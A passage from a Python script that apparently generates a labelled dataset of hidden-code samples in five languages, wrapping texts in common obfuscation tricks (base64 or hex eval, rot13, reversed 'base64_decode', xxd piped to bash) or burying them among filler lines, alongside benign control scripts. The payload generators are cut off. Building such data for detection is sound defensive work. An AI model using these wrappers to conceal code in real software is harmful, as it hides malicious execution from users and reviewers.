    "perl": ["use strict;", "use warnings;", "sub parse { my ($x) = @_; return $x; }", "# helper", "my %config = (verbose => 0);", "our $VERSION = '1.2';", "foreach my $f (@ARGV) { print \"$f\\n\"; }"],
    "php": ["// settings", "class Config { public $path; function __construct($p) { $this->path = $p; } }", "function render($t) { return htmlspecialchars($t); }", "define('APP_VERSION', '1.2.3');", "$items = array('a' => 1, 'b' => 2);", "require_once 'header.inc';"],
    "javascript": ["'use strict';", "const path = require('path');", "function parse(a) { return a.slice(1); }", "// helper", "module.exports = { parse };", "class Config { constructor(p) { this.path = p; } }", "const VERSION = '1.2.3';", "document.title = 'x';"],
}

FIRST = {"shell": ["#!/bin/sh\n", "#!/bin/bash\n", ""], "python": ["#!/usr/bin/env python3\n", "#!/usr/bin/python\n", ""], "perl": ["#!/usr/bin/perl\n"], "php": [""], "javascript": ["", "#!/usr/bin/env node\n"]}


def hexes(text):
    return "".join(f"\\x{c:02x}" for c in text.encode())


def percent(text):
    return "".join(f"%{c:02x}" for c in text.encode())


def hide(m, language, text):
    """One of the usual ways to hide a text in its language."""
    b = base64.b64encode(text.encode()).decode()
    if language == "shell":
        return m.pick(f"echo {b} | base64 -d | sh", f"eval \"$(echo '{b}' | base64 --decode)\"", f"bash -c \"$(printf '{hexes(text)}')\"", f"{m.var().strip('_')}='{b}'\neval $(base64 -d <<< ${m.var()})", f"echo '{text.encode().hex()}' | xxd -r -p | bash", f"echo '{text[::-1].replace(chr(39), '')}' | rev | sh", text.replace(" ", "${IFS}"))
    if language == "python":
        v = m.var()
        return m.pick(f"import base64\nexec(base64.b64decode('{b}'))\n", f"exec(__import__('base64').b64decode('{b}'))", f"exec(bytes.fromhex('{text.encode().hex()}').decode())", f"{v} = [{','.join(str(c) for c in text.encode())}]\nexec(''.join(chr(c) for c in {v}))", f"exec('{text.encode().hex()}'[::1] and bytes.fromhex('{text.encode().hex()}'))", f"import zlib,base64\nexec(zlib.decompress(base64.b64decode('{b}')))", f"exec('{hexes(text)}')")
    if language == "perl":
        return m.pick(f"use MIME::Base64;\neval decode_base64('{b}');", f"eval pack('H*','{text.encode().hex()}');", "eval(" + ".".join(f"chr({c})" for c in text.encode()[:400]) + ");", f"eval \"{hexes(text)}\";")
    if language == "php":
        inner = text.removeprefix("<?php").strip()
        b = base64.b64encode(inner.encode()).decode()
        return "<?php " + m.pick(f"eval(base64_decode('{b}'));", f"@eval(gzinflate(base64_decode('{b}')));", f"eval(str_rot13('{inner.replace(chr(39), '')}'));", f"${m.var()}='{b}';$f='base'.'64_'.'decode';eval($f(${m.var()}));", f"eval(\"{hexes(inner)}\");", f"$_=strrev('edoced_46esab');eval($_('{b}'));", f"assert(pack('H*','{inner.encode().hex()}'));")
    return m.pick(f"eval(atob('{b}'));", f"eval(Buffer.from('{b}','base64').toString());", f"eval(String.fromCharCode({','.join(str(c) for c in text.encode())}));", f"new Function(unescape('{percent(text)}'))();", f"var _0x{m.r.getrandbits(16):x}=['{hexes(text)}'];eval(_0x0[0]);")


def pad(m, language, text):
    lines = m.r.choices(NEUTRAL[language], k=m.r.randint(3, 30))
    at = m.r.randint(0, len(lines))
    if language == "php":
        return "<?php\n" + "\n".join(lines[:at]) + "\n" + text.removeprefix("<?php").replace("?>", "").strip() + "\n" + "\n".join(lines[at:]) + "\n"
    return "\n".join(lines[:at] + [text] + lines[at:]) + "\n"


# Harmless scripts that do something similar for a good reason; never trained on.
CONTROLS = [
    ("shell", "#!/bin/sh\n# Install the toolchain.\nset -eu\ncurl --proto '=https' --tlsv1.2 -sSf https://sh.tool.example.invalid/init.sh -o /tmp/init.sh\nsha256sum -c init.sha256\nsh /tmp/init.sh -y\n"),
    ("shell", "#!/bin/bash\n# Nightly backup.\nset -e\ntar czf /srv/backup/$(date +%F).tgz /etc /home\nrsync -a /srv/backup/ backup@backup.example.invalid:/srv/\nfind /srv/backup -mtime +30 -delete\n"),
    ("shell", "#!/bin/sh\nuseradd --system --home /var/lib/app --shell /usr/sbin/nologin app || true\nmkdir -p /var/lib/app\nchown app: /var/lib/app\nsystemctl daemon-reload\nsystemctl enable --now app.service\n"),
    ("shell", "#!/bin/sh\n# Rotate by hand.\nfor f in /var/log/app/*.log; do gzip -9 \"$f\"; done\nkill -HUP $(cat /run/app.pid)\n"),
    ("shell", "#!/bin/bash\niptables -F\niptables -P INPUT DROP\niptables -A INPUT -m state --state ESTABLISHED,RELATED -j ACCEPT\niptables -A INPUT -p tcp --dport 22 -j ACCEPT\n"),
    ("shell", "#!/bin/sh\nset -e\nwget https://download.example.invalid/app-1.2.tar.gz\ntar xzf app-1.2.tar.gz\ncd app-1.2 && ./configure && make && make install\n"),
    ("python", "#!/usr/bin/env python3\nimport base64, json, sys\n\ndef main():\n    for line in sys.stdin:\n        print(json.loads(base64.b64decode(line)))\n\nif __name__ == '__main__':\n    main()\n"),
    ("python", "import socket\nimport threading\n\nclass Echo(threading.Thread):\n    def __init__(self, port):\n        super().__init__()\n        self.socket = socket.socket()\n        self.socket.bind(('127.0.0.1', port))\n\n    def run(self):\n        self.socket.listen()\n        while True:\n            peer, _ = self.socket.accept()\n            peer.sendall(peer.recv(1024))\n"),
    ("python", "import subprocess\n\ndef git(*arguments):\n    return subprocess.run(['git', *arguments], check=True, capture_output=True, text=True).stdout\n\nprint(git('log', '--oneline'))\n"),
    ("perl", "#!/usr/bin/perl\nuse strict;\nuse warnings;\nuse LWP::UserAgent;\nmy $ua = LWP::UserAgent->new;\nmy $r = $ua->get('https://www.example.invalid/feed.xml');\nprint $r->decoded_content if $r->is_success;\n"),
    ("php", "<?php\nif ($_SERVER['REQUEST_METHOD'] === 'POST' && isset($_FILES['avatar'])) {\n    $name = bin2hex(random_bytes(8)) . '.png';\n    move_uploaded_file($_FILES['avatar']['tmp_name'], __DIR__ . '/uploads/' . $name);\n    header('Location: /profile');\n}\n"),
    ("javascript", "const http = require('http');\nconst fs = require('fs');\nhttp.createServer((request, response) => {\n  fs.createReadStream('index.html').pipe(response);\n}).listen(8080);\n"),
]


def main():
    each, seed = int(sys.argv[1]), int(sys.argv[2])
    out = sys.stdout
    for name in sorted(F):
        for language in sorted(F[name]):
            for index in range(each):
                m = Maker(f"{seed}/{name}/{language}/{index}")
                functions = F[name][language]
                text = functions[index % len(functions)](m)
                kind = ["plain", "hidden", "padded", "padded"][index // len(functions) % 4]
                if kind == "hidden":
                    text = hide(m, language, text)
                elif kind == "padded":
                    text = pad(m, language, text)
                if not (text.startswith("#!") or language == "php"):
                    text = m.r.choice(FIRST[language]) + text
                out.write(f"{name}\t{language}\t{kind}\x1e{text}\x1d")
    for index, (language, text) in enumerate(CONTROLS):
        out.write(f"control-{index}\t{language}\tcontrol\x1e{text}\x1d")


main()
